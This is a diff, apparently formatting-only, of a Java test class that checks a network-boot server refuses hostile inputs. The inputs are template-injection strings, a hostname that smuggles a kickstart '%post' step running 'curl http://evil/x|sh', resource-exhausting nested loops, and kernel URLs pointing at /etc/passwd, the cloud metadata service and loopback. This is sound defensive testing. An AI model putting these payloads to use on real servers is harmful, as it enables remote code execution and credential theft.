@@ -27,7 +27,8 @@ class BootSideAttacksTest {
   @BeforeEach
   void start() {
     s = TestServer.start().seeded();
-    s.engine.createTemplate("ks-host", "network --hostname={{ hostname }}\nrootpw {{ root_password }}\n");
+    s.engine.createTemplate(
+        "ks-host", "network --hostname={{ hostname }}\nrootpw {{ root_password }}\n");
   }
 
   @AfterEach
@@ -37,21 +38,34 @@ class BootSideAttacksTest {
 
   @Test
   void templateCodeInARegisteredFactIsRefusedNamingTheFact() {
-    assertError(s.get("/ipxe/register/" + UUID + "?hostname=%7B%7B%20root_password%20%7D%7D"), 400,
+    assertError(
+        s.get("/ipxe/register/" + UUID + "?hostname=%7B%7B%20root_password%20%7D%7D"),
+        400,
         "registration fact 'hostname'");
-    assertError(s.get("/ipxe/register/" + UUID + "?serial=%7B%25%20include%20'ks'%20%25%7D"), 400,
+    assertError(
+        s.get("/ipxe/register/" + UUID + "?serial=%7B%25%20include%20'ks'%20%25%7D"),
+        400,
         "registration fact 'serial'");
-    assertError(s.get("/ipxe/register/" + UUID + "?hostname=x%0A%25post%0Acurl%20http://evil/x%7Csh%0A%25end"), 400,
+    assertError(
+        s.get(
+            "/ipxe/register/"
+                + UUID
+                + "?hostname=x%0A%25post%0Acurl%20http://evil/x%7Csh%0A%25end"),
+        400,
         "registration fact 'hostname'");
     assertError(s.get("/ipxe/register/" + UUID + "?product=a%00b"), 400, "control character");
     assertError(s.get("/ipxe/register/" + UUID + "?manufacturer=%ff%fe"), 400, "not valid UTF-8");
     assertError(s.get("/ipxe/register/" + UUID + "?asset=" + "x".repeat(200)), 400, "longer than");
     assertThat(s.get("/api/1.0/hosts/" + UUID).statusCode()).isEqualTo(404);
 
-    HttpResponse<String> ok = s.get("/ipxe/register/" + UUID.toUpperCase()
-        + "?manufacturer=QEMU&product=Standard%20PC%20(Q35)&hostname=node-7");
+    HttpResponse<String> ok =
+        s.get(
+            "/ipxe/register/"
+                + UUID.toUpperCase()
+                + "?manufacturer=QEMU&product=Standard%20PC%20(Q35)&hostname=node-7");
     assertThat(ok.statusCode()).as(ok.body()).isEqualTo(201);
-    assertThat(json(s.get("/api/1.0/hosts/" + UUID)).path("registered_by").asText()).contains("unauthenticated");
+    assertThat(json(s.get("/api/1.0/hosts/" + UUID)).path("registered_by").asText())
+        .contains("unauthenticated");
     assertThat(s.get("/api/1.0/templates/ks-host/" + UUID).body())
         .isEqualTo("network --hostname=node-7\nrootpw hunter2hunter2");
   }
@@ -70,7 +84,8 @@ class BootSideAttacksTest {
 
   @Test
   void aHostileFactAlreadyStoredIsNeverRendered() {
-    s.engine.createHost(UUID, Params.of(Map.of("groups", List.of("default"), "hostname", "{{ root_password }}")));
+    s.engine.createHost(
+        UUID, Params.of(Map.of("groups", List.of("default"), "hostname", "{{ root_password }}")));
     HttpResponse<String> r = s.get("/api/1.0/templates/ks-host/" + UUID);
     assertError(r, 400, "parameter 'hostname' of host '" + UUID + "' is a machine fact");
     assertThat(r.body()).doesNotContain("hunter2");
@@ -81,17 +96,33 @@ class BootSideAttacksTest {
     s.engine.createTemplate("round.ipxe", "#!ipxe\necho {{ 1.5|round(10000000) }}\n");
     s.engine.createHost(UUID, Params.of(Map.of("ipxe_script", "round.ipxe")));
     for (int i = 0; i < 3; i++) {
-      assertError(s.get("/ipxe/script/" + UUID), 400, "round() precision 10000000 is above the limit");
+      assertError(
+          s.get("/ipxe/script/" + UUID), 400, "round() precision 10000000 is above the limit");
     }
   }
 
   @Test
   void fourHostileRendersInFlightDoNotHoldUpANormalBoot() throws Exception {
-    try (TestServer slow = TestServer.start(Bergenholm.builder().config(Map.of("store", "memory:",
-        "renderer.max_nodes", "4000000000", "renderer.timeout_ms", "600000",
-        Bergenholm.RENDER_DEADLINE_MS, "10000")).build(), HttpSettings.of(TestServer.loopback())).seeded()) {
-      slow.engine.createTemplate("endless.ipxe", "{% for i in range(10000) %}{% for j in range(10000) %}"
-          + "{% for k in range(10000) %}{% set x = i + j + k %}{% endfor %}{% endfor %}{% endfor %}");
+    try (TestServer slow =
+        TestServer.start(
+                Bergenholm.builder()
+                    .config(
+                        Map.of(
+                            "store",
+                            "memory:",
+                            "renderer.max_nodes",
+                            "4000000000",
+                            "renderer.timeout_ms",
+                            "600000",
+                            Bergenholm.RENDER_DEADLINE_MS,
+                            "10000"))
+                    .build(),
+                HttpSettings.of(TestServer.loopback()))
+            .seeded()) {
+      slow.engine.createTemplate(
+          "endless.ipxe",
+          "{% for i in range(10000) %}{% for j in range(10000) %}"
+              + "{% for k in range(10000) %}{% set x = i + j + k %}{% endfor %}{% endfor %}{% endfor %}");
       List<String> hostile = new ArrayList<>();
       List<CompletableFuture<HttpResponse<String>>> inFlight = new ArrayList<>();
       for (int i = 0; i < 4; i++) {
@@ -111,7 +142,8 @@ class BootSideAttacksTest {
       HttpResponse<String> normal = slow.get("/ipxe/script/samplehost");
       assertThat(normal.statusCode()).isEqualTo(200);
       assertThat(normal.body()).startsWith("#!ipxe\nkernel ");
-      assertThat(inFlight).as("the normal boot was answered before any hostile render ended")
+      assertThat(inFlight)
+          .as("the normal boot was answered before any hostile render ended")
           .noneMatch(CompletableFuture::isDone);
 
       for (int i = 0; i < 4; i++) {
@@ -121,24 +153,34 @@ class BootSideAttacksTest {
     }
   }
 
-  /** A host's kernel pointing at a file, a metadata service or the server's own API is not served. */
+  /**
+   * A host's kernel pointing at a file, a metadata service or the server's own API is not served.
+   */
   @Test
-  void imageUrlsCannotReachFilesMetadataOrTheServerItself(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
-      throws Exception {
+  void imageUrlsCannotReachFilesMetadataOrTheServerItself(
+      @org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
     Bergenholm engine = TestServer.memoryEngine();
-    io.bergenholm.engine.image.ImageService images = io.bergenholm.engine.image.ImageService.forEngine(engine,
-        Map.of("images.cache_dir", dir.resolve("cache").toString()));
-    try (TestServer srv = TestServer.start(engine, HttpSettings.of(TestServer.loopback()), images).seeded()) {
+    io.bergenholm.engine.image.ImageService images =
+        io.bergenholm.engine.image.ImageService.forEngine(
+            engine, Map.of("images.cache_dir", dir.resolve("cache").toString()));
+    try (TestServer srv =
+        TestServer.start(engine, HttpSettings.of(TestServer.loopback()), images).seeded()) {
       String self = srv.base + "/api/1.0/hosts/samplehost?params=all";
-      Map<String, String> kernels = Map.of(
-          "0000000a-0000-4000-8000-000000000001", "file:///etc/passwd",
-          "0000000a-0000-4000-8000-000000000002", "http://169.254.169.254/latest/meta-data/iam/",
-          "0000000a-0000-4000-8000-000000000003", self,
-          "0000000a-0000-4000-8000-000000000004", "http://localhost:" + srv.server.bootAddress().getPort() + "/healthz");
+      Map<String, String> kernels =
+          Map.of(
+              "0000000a-0000-4000-8000-000000000001",
+              "file:///etc/passwd",
+              "0000000a-0000-4000-8000-000000000002",
+              "http://169.254.169.254/latest/meta-data/iam/",
+              "0000000a-0000-4000-8000-000000000003",
+              self,
+              "0000000a-0000-4000-8000-000000000004",
+              "http://localhost:" + srv.server.bootAddress().getPort() + "/healthz");
       for (Map.Entry<String, String> e : kernels.entrySet()) {
         engine.createHost(e.getKey(), Params.of(Map.of("kernel", e.getValue())));
       }
-      assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000001"), 400, "scheme 'file'");
+      assertError(
+          srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000001"), 400, "scheme 'file'");
       assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000002"), 400, "link-local");
       assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000003"), 400, "loopback");
       assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000004"), 400, "loopback");
@@ -147,7 +189,9 @@ class BootSideAttacksTest {
     }
   }
 
-  /** Seeded random register queries over real HTTP: every answer a clean 201 or 400, nothing leaks. */
+  /**
+   * Seeded random register queries over real HTTP: every answer a clean 201 or 400, nothing leaks.
+   */
   @Test
   void fuzzRegisterQueriesOverHttp() throws Exception {
     long seed = Long.getLong("fuzz.seed", 11L);
@@ -157,19 +201,28 @@ class BootSideAttacksTest {
     int refused = 0;
     // Every request comes from 127.0.0.1, so that address's registration allowance must cover the
     // whole run; the limit itself is TransportLimitsTest's subject.
-    try (TestServer fuzz = TestServer.start(TestServer.memoryEngine(), HttpSettings.of(TestServer.loopback())
-            .withTransport(TransportLimits.defaults().withRegistrations(100_000, 10_000, 100_000))).seeded();
+    try (TestServer fuzz =
+            TestServer.start(
+                    TestServer.memoryEngine(),
+                    HttpSettings.of(TestServer.loopback())
+                        .withTransport(
+                            TransportLimits.defaults().withRegistrations(100_000, 10_000, 100_000)))
+                .seeded();
         RawHttp raw = new RawHttp(fuzz.server.bootAddress().getPort())) {
       for (int i = 0; i < 3000; i++) {
         String path = "/ipxe/register/" + randomId(random) + "?" + randomQuery(random);
         raw.write("GET " + path + " HTTP/1.1\r\nHost: t\r\n\r\n");
         RawHttp.Response r = raw.read(false);
-        assertThat(r.status()).as("seed %d request %d: %s -> %s", seed, i, path, r.text()).isIn(201, 400);
+        assertThat(r.status())
+            .as("seed %d request %d: %s -> %s", seed, i, path, r.text())
+            .isIn(201, 400);
         if (r.status() == 201) {
           created++;
         } else {
-          assertThat(r.text()).as("seed %d: %s", seed, path)
-              .containsAnyOf("registration fact '", "is not a UUID", "already exists", "query parameters");
+          assertThat(r.text())
+              .as("seed %d: %s", seed, path)
+              .containsAnyOf(
+                  "registration fact '", "is not a UUID", "already exists", "query parameters");
           refused++;
         }
       }
@@ -179,7 +232,13 @@ class BootSideAttacksTest {
     for (String id : s.engine.listHosts(Map.of())) {
       Params p = s.engine.host(id).orElseThrow().value();
       for (String fact : Bergenholm.REGISTER_FACTS) {
-        p.string(fact).ifPresent(v -> assertThat(v).doesNotContain("{").doesNotContain("%").doesNotContainPattern("\\p{Cntrl}"));
+        p.string(fact)
+            .ifPresent(
+                v ->
+                    assertThat(v)
+                        .doesNotContain("{")
+                        .doesNotContain("%")
+                        .doesNotContainPattern("\\p{Cntrl}"));
       }
     }
     assertThat(s.get("/healthz").statusCode()).isEqualTo(200);
@@ -188,7 +247,8 @@ class BootSideAttacksTest {
 
   private static String randomId(Random r) {
     return switch (r.nextInt(4)) {
-      case 0, 1 -> String.format("%08x-0000-4000-8000-%012x", r.nextInt(), (long) r.nextInt(1 << 20));
+      case 0, 1 ->
+          String.format("%08x-0000-4000-8000-%012x", r.nextInt(), (long) r.nextInt(1 << 20));
       case 2 -> String.format("%08X-0000-4000-8000-%012x", r.nextInt(16), 0L);
       default -> randomEncoded(r, 1 + r.nextInt(40));
     };
@@ -203,7 +263,10 @@ class BootSideAttacksTest {
         b.append('&');
       }
       b.append(names[r.nextInt(names.length)]).append('=');
-      b.append(r.nextBoolean() ? "node-" + r.nextInt(1000) : randomEncoded(r, r.nextInt(r.nextInt(10) == 0 ? 300 : 20)));
+      b.append(
+          r.nextBoolean()
+              ? "node-" + r.nextInt(1000)
+              : randomEncoded(r, r.nextInt(r.nextInt(10) == 0 ? 300 : 20)));
     }
     return b.toString();
   }
@@ -223,10 +286,15 @@ class BootSideAttacksTest {
 
   static long busyRenderThreads() {
     return Thread.getAllStackTraces().entrySet().stream()
-        .filter(e -> e.getKey().getName().startsWith("bergenholm-render-") && !e.getKey().getName().endsWith("watchdog"))
+        .filter(
+            e ->
+                e.getKey().getName().startsWith("bergenholm-render-")
+                    && !e.getKey().getName().endsWith("watchdog"))
         .filter(e -> e.getKey().getState() == Thread.State.RUNNABLE)
-        .filter(e -> List.of(e.getValue()).stream().anyMatch(f -> f.getClassName().startsWith("com.hubspot.jinjava")))
+        .filter(
+            e ->
+                List.of(e.getValue()).stream()
+                    .anyMatch(f -> f.getClassName().startsWith("com.hubspot.jinjava")))
         .count();
   }
-
 }
